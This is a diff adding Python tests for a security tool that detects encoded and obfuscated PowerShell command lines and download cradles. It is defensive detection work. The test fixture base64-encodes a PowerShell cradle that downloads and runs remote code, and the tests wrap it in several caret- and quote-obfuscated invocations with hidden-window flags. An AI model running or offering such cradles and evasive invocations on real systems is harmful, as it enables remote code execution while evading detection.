@@ -0,0 +1,47 @@
+﻿import base64
+
+from agents.cmdline import extract_features
+from agents.enricher import enrich_event
+
+PAYLOAD = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x')".encode("utf-16-le")).decode()
+
+
+def test_encoded_command_variants_are_detected_and_decoded():
+    for cmd in (
+        f"powershell.exe -EncodedCommand {PAYLOAD}",
+        f"powershell /enc {PAYLOAD}",
+        f"powershell.exe -e {PAYLOAD}",
+        f"powershell -EncodedCommand:{PAYLOAD}",
+        f"p^o^w^e^r^s^h^e^l^l -e^n^c {PAYLOAD}",
+        f'po"wer"shell "-ec" {PAYLOAD}',
+    ):
+        feat = extract_features(cmd)
+        assert feat["encoded_command"], cmd
+        assert feat["decoded_command"].startswith("IEX (New-Object"), cmd
+        assert feat["download_cradle"], cmd
+
+
+def test_encoded_command_at_end_of_line_and_nested_invocation():
+    assert extract_features("powershell.exe -nop -EncodedCommand")["encoded_command"]
+    nested = extract_features('cmd.exe /c "powershell -w h -c Get-Date"')
+    assert nested["is_powershell"] and nested["hidden_window"]
+
+
+def test_short_flags_on_other_tools_are_not_powershell_parameters():
+    assert not extract_features("grep -e foo -w hidden")["encoded_command"]
+    assert not extract_features("certutil.exe -encode payload.bin out.b64")["encoded_command"]
+    assert not extract_features(r"C:\Windows\System32\reg.exe -windowstyle hidden")["hidden_window"]
+    assert not extract_features("reg.exe -windowstyle hidden")["hidden_window"]
+    # No image on the line at all: the arguments are still read
+    assert extract_features(f"-NoProfile -EncodedCommand {PAYLOAD}")["encoded_command"]
+    assert not extract_features("powershell -Command Write-Host -enc")["encoded_command"]
+
+
+def test_enricher_heuristics_read_the_feature_vector():
+    parsed = {
+        "host": "WIN10-LAB",
+        "process": {"command_line": f"powershell.exe -NoP -WindowStyle Hidden -EncodedCommand {PAYLOAD}"},
+        "network": {},
+    }
+    heuristics = enrich_event(parsed)["enrichment"]["heuristics"]
+    assert heuristics == {"has_encoded_command": True, "has_hidden_window": True}